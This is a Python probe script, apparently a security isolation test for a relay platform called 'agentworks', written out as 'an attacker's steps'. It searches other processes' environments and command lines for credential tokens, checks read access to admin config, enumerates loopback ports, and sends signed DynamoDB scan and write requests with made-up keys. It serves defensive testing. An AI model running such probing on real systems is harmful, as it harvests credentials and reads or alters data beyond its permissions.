"""An attacker's steps (issue 24 §2), as relay code: standard library only, as relay code is.

Published as a Relay and run by a connection of another account, it reports what it could
reach: run credentials in other processes' environments or command lines, the admin config,
the stack's own process, and the embedded AWS endpoint found through /proc/net/tcp (scanned,
read and written with well-formed SigV4 requests signed with made-up keys).
"""

import datetime
import glob
import hashlib
import hmac
import http.client
import json
import os

MAX_PORTS = 40


def secrets_in_processes(marker):
    """The processes whose environment or command line holds `marker` (awr1.: a run
    credential; aw1.: a connection token)."""
    found = []
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(path, "rb") as file:
                data = file.read()
        except OSError:
            continue
        if marker in data:
            found.append(path)
    return found


def stack_process_seen():
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(path, "rb") as file:
                words = file.read().split(b"\0")
        except OSError:
            continue
        if b"dev" in words and any(w.endswith(b"agentworks") for w in words):
            return True
    return False


def readable(path):
    try:
        with open(path, "rb") as file:
            return len(file.read()) > 0
    except OSError:
        return False


def listening_loopback_ports():
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(table) as file:
                lines = file.read().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            fields = line.split()
            address, port = fields[1].rsplit(":", 1)
            loopback = address in ("0100007F", "00000000") or address.endswith("0100007F")
            if fields[3] == "0A" and loopback:  # LISTEN
                ports.add(int(port, 16))
    return sorted(ports)[:MAX_PORTS]


def _sign(key, message):
    return hmac.new(key, message.encode(), hashlib.sha256).digest()


def signed_request(port, target, body, access_key="agentworks-local", secret="agentworks-local"):
    """A DynamoDB JSON request with a correct SigV4 signature for made-up keys."""
    now = datetime.datetime.now(datetime.UTC)
    stamp, day = now.strftime("%Y%m%dT%H%M%SZ"), now.strftime("%Y%m%d")
    host = f"127.0.0.1:{port}"
    payload = json.dumps(body).encode()
    headers = {
        "content-type": "application/x-amz-json-1.0",
        "host": host,
        "x-amz-date": stamp,
        "x-amz-target": f"DynamoDB_20120810.{target}",
    }
    signed = ";".join(sorted(headers))
    canonical = "\n".join(
        [
            "POST",
            "/",
            "",
            "".join(f"{k}:{headers[k]}\n" for k in sorted(headers)),
            signed,
            hashlib.sha256(payload).hexdigest(),
        ]
    )
    scope = f"{day}/us-east-1/dynamodb/aws4_request"
    to_sign = "\n".join(
        ["AWS4-HMAC-SHA256", stamp, scope, hashlib.sha256(canonical.encode()).hexdigest()]
    )
    key = _sign(("AWS4" + secret).encode(), day)
    for part in ("us-east-1", "dynamodb", "aws4_request"):
        key = _sign(key, part)
    signature = hmac.new(key, to_sign.encode(), hashlib.sha256).hexdigest()
    headers["authorization"] = (
        f"AWS4-HMAC-SHA256 Credential={access_key}/{scope}, SignedHeaders={signed}, "
        f"Signature={signature}"
    )
    return _send(port, "POST", "/", payload, headers)


def _send(port, method, path, payload=None, headers=None):
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=3)
    try:
        connection.request(method, path, body=payload, headers=headers or {})
        answer = connection.getresponse()
        return {"status": answer.status, "body": answer.read(4000).decode("utf-8", "replace")}
    except OSError as error:
        return {"status": 0, "body": type(error).__name__}
    finally:
        connection.close()


def probe_aws(port, table):
    return {
        "list_tables": signed_request(port, "ListTables", {}),
        "scan_identity": signed_request(port, "Scan", {"TableName": table}),
        "put_item": signed_request(
            port, "PutItem", {"TableName": table, "Item": {"pk": {"S": "x"}, "sk": {"S": "y"}}}
        ),
        "moto_state": _send(port, "GET", "/moto-api/data.json"),
    }


async def run(INPUT):
    ports = listening_loopback_ports()
    return {
        "run_credentials_seen": secrets_in_processes(b"awr1."),
        "tokens_seen": secrets_in_processes(b"aw1."),
        "stack_process_seen": stack_process_seen(),
        "config_read": readable(INPUT["admin_config"]),
        "ready_file_read": readable(INPUT["ready_file"]),
        "uid": os.getuid(),
        "ports": ports,
        "aws": {str(port): probe_aws(port, INPUT["identity_table"]) for port in ports},
    }
